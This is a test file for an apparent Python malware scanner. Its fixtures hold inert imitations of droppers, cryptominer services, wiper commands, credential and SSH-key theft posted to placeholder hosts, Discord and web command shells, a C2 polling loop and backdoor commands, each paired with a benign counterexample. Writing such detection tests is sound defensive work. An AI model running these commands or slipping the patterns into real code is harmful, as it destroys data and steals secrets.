// What a payload does once it runs, each on an inert imitation: Defender exclusions and a miner's command line,
// a boot-time Windows service, and a library that posts its caller's source files.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { initAnalysis } from '../../src/analysis/api.ts';
import { analyzePythonFile } from '../../src/analysis/python-file.ts';
import type { Finding } from '../../src/model/result.ts';

before(() => initAnalysis());

function findings(source: string, path = 'demo/tool.py'): Finding[] {
  return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
}
const ruleOf = (list: Finding[], rule: string) => list.find((f) => f.rule === rule);

const DROPPER = [
  'import subprocess',
  'def exclude(path):',
  '    subprocess.run(["powershell", "-Command", f"Add-MpPreference -ExclusionPath \'{path}\'"], shell=True)',
  'def service(name):',
  '    cmd = r\'cmd.exe /c start /min "" "C:\\ProgramData\\upd.exe" --url pool.example.invalid:3333 --cpu-max-threads-hint 75\'',
  '    subprocess.run(f\'sc create {name} binPath= "{cmd}" start= auto\', shell=True)',
  'if __name__ == "__main__":',
  '    exclude("C:\\\\ProgramData")',
  '    service("UpdSvc")',
].join('\n');

test('a Defender exclusion and a miner command line are high even in code only a user runs', () => {
  const list = findings(DROPPER);
  assert.equal(ruleOf(list, 'defense-evasion')?.severity, 'high');
  assert.equal(ruleOf(list, 'defense-evasion')?.line, 3);
  assert.equal(ruleOf(list, 'cryptominer')?.severity, 'high');
  assert.equal(ruleOf(list, 'cryptominer')?.line, 5);
  assert.match(
    list.find((f) => f.rule === 'persistence' && /service/.test(f.message))?.message ?? '',
    /Windows service started at boot/,
  );
});

test('the same strings in setup.py are critical', () => {
  const list = findings(DROPPER.replace('if __name__ == "__main__":', 'if True:'), 'setup.py');
  assert.equal(ruleOf(list, 'defense-evasion')?.severity, 'critical');
  assert.equal(ruleOf(list, 'cryptominer')?.severity, 'critical');
});

test('words of the same family in ordinary text are not tampering', () => {
  const list = findings(
    [
      'HELP = "Use --firewall to print the firewall state; mine the log for errors"',
      'print(HELP, "determine the pool size")',
    ].join('\n'),
  );
  assert.equal(ruleOf(list, 'defense-evasion'), undefined);
  assert.equal(ruleOf(list, 'cryptominer'), undefined);
});

test('wiper commands are destructive; cleaning a build or cache folder is not', () => {
  const wipers = [
    'subprocess.call("rm -rf ~/Documents", shell=True)',
    'os.system("rm -rf --no-preserve-root /")',
    'os.system("rd /s /q C:\\\\Users")',
    'os.system("vssadmin delete shadows /all /quiet")',
    'os.system("dd if=/dev/zero of=/dev/sda bs=1M")',
  ];
  for (const line of wipers) {
    const found = ruleOf(findings(`import os, subprocess\ndef wipe():\n    ${line}\n`), 'destructive-command');
    assert.equal(found?.severity, 'high', line);
  }
  for (const line of [
    'os.system("rm -rf build/ dist/")',
    'os.system("rm -rf ~/.cache/demo")',
    'os.system("rm -rf /tmp/x")',
  ])
    assert.equal(ruleOf(findings(`import os\ndef clean():\n    ${line}\n`), 'destructive-command'), undefined, line);
});

test("a library that reads its caller's source through the call stack and posts it is exfiltration", () => {
  const source = [
    'import inspect, json, urllib.request',
    'def post(url, data):',
    '    req = urllib.request.Request(url, data=json.dumps(data).encode(), method="POST")',
    '    return urllib.request.urlopen(req).read()',
    'def register(base_url, node):',
    '    for frame in inspect.stack():',
    '        name = frame.filename',
    '        with open(name, encoding="utf-8") as f:',
    '            post("http://192.0.2.7:3000/register", {"h": name, "j": f.read()})',
    '        break',
    '    return post(base_url, {"node": node})',
  ].join('\n');
  const exfiltration = ruleOf(findings(source), 'exfiltration');
  assert.equal(exfiltration?.severity, 'high', 'sent to a hard-coded IP address');
  assert.match(exfiltration!.message, /calling program's files/);
});

test('a chat bot that hands a shell the command lines it is sent is a remote shell; one running its own commands is not', () => {
  const bot = [
    'import subprocess, discord',
    'client = discord.Client(intents=discord.Intents.default())',
    'async def execute(command):',
    '    p = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)',
    '    return p.communicate()[0]',
    '@client.event',
    'async def on_message(message):',
    '    await message.channel.send(await execute(message.content))',
  ].join('\n');
  const shell = ruleOf(findings(bot), 'reverse-shell');
  assert.equal(shell?.severity, 'high');
  assert.equal(shell?.line, 4);
  const own = bot.replace(
    'subprocess.Popen(command, shell=True',
    'subprocess.Popen(f"ffmpeg -i {command} out.mp3", shell=True',
  );
  assert.equal(ruleOf(findings(own), 'reverse-shell'), undefined, 'the program is written out: ffmpeg');
  const list = bot.replace('subprocess.Popen(command, shell=True', 'subprocess.Popen(["yt-dlp", command]');
  assert.equal(ruleOf(findings(list), 'reverse-shell'), undefined, 'an argument list runs no shell');
});

test("a Telegram bot built with a token the package writes (as chr() codes) and sending files is the author's channel", () => {
  const token = '1234567890:AAbbCCddEEffGGhhIIjjKKllMMnnOOppQQr';
  const source = [
    'from telegram import Bot',
    'def d(x):',
    '    return "".join(chr(i) for i in x)',
    `_B = [${[...token].map((c) => c.charCodeAt(0)).join(', ')}]`,
    'async def deliver(path):',
    '    bot = Bot(token=d(_B))',
    '    await bot.send_document(chat_id="1000", document=open(path, "rb"))',
  ].join('\n');
  const channel = ruleOf(findings(source), 'hardcoded-bot-channel');
  assert.equal(channel?.severity, 'high');
  assert.equal(channel?.line, 6);
  const library = source
    .replace('Bot(token=d(_B))', 'Bot(token=user_token)')
    .replace('async def deliver(path)', 'async def deliver(path, user_token)');
  assert.equal(ruleOf(findings(library), 'hardcoded-bot-channel'), undefined, "the user's own token");
});

test('a web handler that hands a shell the command line a request carries is a web shell; one running its own command is not', () => {
  const app = [
    'import subprocess',
    'from flask import Flask, request',
    'app = Flask(__name__)',
    "@app.route('/run')",
    'def run():',
    "    cmd = request.args.get('c')",
    '    out = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)',
    '    return out.stdout.read()',
  ].join('\n');
  const shell = ruleOf(findings(app), 'reverse-shell');
  assert.equal(shell?.severity, 'high');
  assert.match(shell!.message, /web shell/);
  const config = app.replace("cmd = request.args.get('c')", 'cmd = CONFIG["command"]');
  assert.equal(
    ruleOf(findings(config), 'reverse-shell'),
    undefined,
    'a command from the configuration, not the request',
  );
});

test('a loop that runs the command lines a server replies with is a remote shell', () => {
  const source = [
    'import subprocess, requests',
    'def runcommand(value):',
    '    out = subprocess.run(value, shell=True, capture_output=True)',
    '    return [out.stdout, out.stderr]',
    'def poll():',
    '    link = "https://c2.example.invalid/"',
    '    while True:',
    '        resp = requests.get(link)',
    '        resp = resp.text',
    '        for line in runcommand(resp):',
    '            requests.post(link + "output", {"output": line})',
  ].join('\n');
  const shell = ruleOf(findings(source), 'reverse-shell');
  assert.equal(shell?.severity, 'high');
  assert.match(shell!.message, /replies from a server/);
  const local = source.replace('for line in runcommand(resp)', 'for line in runcommand(LOCAL_COMMAND)');
  assert.equal(ruleOf(findings(local), 'reverse-shell'), undefined, 'a command from elsewhere than the reply');
});

test('files listed in the ~/.ssh folder and posted are SSH keys sent out (high, even when called)', () => {
  const list = analyzePythonFile(
    'demo/mod.py',
    new TextEncoder().encode(
      [
        'import os, requests',
        'def go():',
        '    d = os.path.join(os.path.expanduser("~"), ".ssh")',
        '    for name in os.listdir(d):',
        '        requests.post("https://collect.example/y", files={"f": open(os.path.join(d, name), "rb")})',
      ].join('\n'),
    ),
  )[0].findings;
  const sent = list.find((f) => f.rule === 'exfiltration');
  assert.equal(sent?.severity, 'high');
  assert.match(sent!.message, /SSH keys/);
});

test('credential files read in a loop over a list of their paths and posted later are credentials sent out', () => {
  const list = analyzePythonFile(
    'demo/mod.py',
    new TextEncoder().encode(
      [
        'import os, json, urllib.request',
        'TARGETS = ["~/.aws/credentials", "~/.ssh/id_rsa", "~/.docker/config.json"]',
        'def collect():',
        '    out = {}',
        '    for t in TARGETS:',
        '        p = os.path.expanduser(t)',
        '        if os.path.exists(p):',
        '            out[t] = open(p).read()',
        '    return out',
        'def ship():',
        '    body = json.dumps(collect()).encode()',
        '    urllib.request.urlopen(urllib.request.Request("https://sync.example/u", data=body))',
      ].join('\n'),
    ),
  )[0].findings;
  const sent = list.find((f) => f.rule === 'exfiltration');
  assert.equal(sent?.severity, 'high');
  assert.match(sent!.message, /AWS credentials/);
});

test("a Discord token's shape written as a regular expression marks what is matched as tokens; mailing them is exfiltration", () => {
  const source = [
    'import os, re, glob, smtplib',
    'def scan():',
    '    tokens = []',
    '    for f in glob.glob(os.path.join(os.getenv("APPDATA"), "**", "*.ldb"), recursive=True):',
    '        tokens += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", open(f, errors="ignore").read())',
    '    s = smtplib.SMTP("smtp.mail.example", 587)',
    '    s.sendmail("a@mail.example", "b@mail.example", "\\n".join(tokens))',
  ].join('\n');
  const list = findings(source);
  assert.match(list.find((f) => f.rule === 'sensitive-file-access')?.message ?? '', /Discord tokens/);
  const sent = list.find((f) => f.rule === 'exfiltration');
  assert.equal(sent?.severity, 'high');
  assert.match(sent!.message, /Discord tokens/);
});

test("a query of the browser's saved-logins table is browser credentials, and posting its rows is exfiltration", () => {
  const source = [
    'import sqlite3, requests',
    'class Collector:',
    '    def rows(self, db):',
    '        con = sqlite3.connect(db)',
    '        return con.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()',
    '    def send(self, db):',
    '        requests.post("https://collect.example/u", data={"rows": str(self.rows(db))})',
  ].join('\n');
  const list = findings(source);
  assert.match(list.find((f) => f.rule === 'sensitive-file-access')?.message ?? '', /browser credentials/);
  assert.match(list.find((f) => f.rule === 'exfiltration')?.message ?? '', /browser credentials/);
  // a column of that name in the application's own table is not the browser's
  const own = findings(
    'import sqlite3\ndef load(con):\n    return con.execute("SELECT password_value FROM accounts").fetchall()\n',
  );
  assert.equal(
    own.find((f) => f.rule === 'sensitive-file-access'),
    undefined,
  );
});

test('wallet extensions named by their store ids, and wallet apps, are crypto wallets', () => {
  for (const place of [
    'Local Extension Settings\\\\bfnaelmomeimhlpmgjnjophhpkkoljpa',
    'Zcash\\\\wallet',
    'Exodus\\\\exodus.wallet',
  ]) {
    const list = findings(`import os\ndef find():\n    return os.path.join(os.getenv("APPDATA"), "${place}")\n`);
    assert.match(list.find((f) => f.rule === 'sensitive-file-access')?.message ?? '', /crypto wallets/, place);
  }
});

test('an administrator account, an appended SSH key, erased logs, a flushed firewall, a shutdown: critical on import, low when called', () => {
  const commands: [string, string][] = [
    ['net user support P4ssw0rd1 /add && net localgroup administrators support /add', 'system-backdoor'],
    ["echo 'ssh-rsa AAAAB3NzaC1yc2E attacker' >> ~/.ssh/authorized_keys", 'system-backdoor'],
    ['chmod 4755 /bin/bash', 'system-backdoor'],
    ['sudo usermod -aG sudo nobody', 'system-backdoor'],
    ['wevtutil cl System', 'defense-evasion'],
    ['history -c && rm -f ~/.bash_history', 'defense-evasion'],
    ['iptables -F', 'defense-evasion'],
    ['shutdown /s /t 0', 'destructive-command'],
  ];
  for (const [command, rule] of commands) {
    const onImport = ruleOf(findings(`import os\nos.system(${JSON.stringify(command)})\n`), rule);
    assert.equal(onImport?.severity, 'critical', command);
    const called = ruleOf(findings(`import os\ndef provision():\n    os.system(${JSON.stringify(command)})\n`), rule);
    assert.equal(called?.severity, 'low', `${command}: an administration tool's job when a user calls it`);
  }
  const prose = findings(
    'HELP = "Run history -c yourself; see the shutdown docs and net user accounts"\nprint(HELP)\nMENU.append("reboot")\n',
  );
  assert.deepEqual(
    prose.filter((f) => ['system-backdoor', 'defense-evasion', 'destructive-command'].includes(f.rule)),
    [],
  );
});
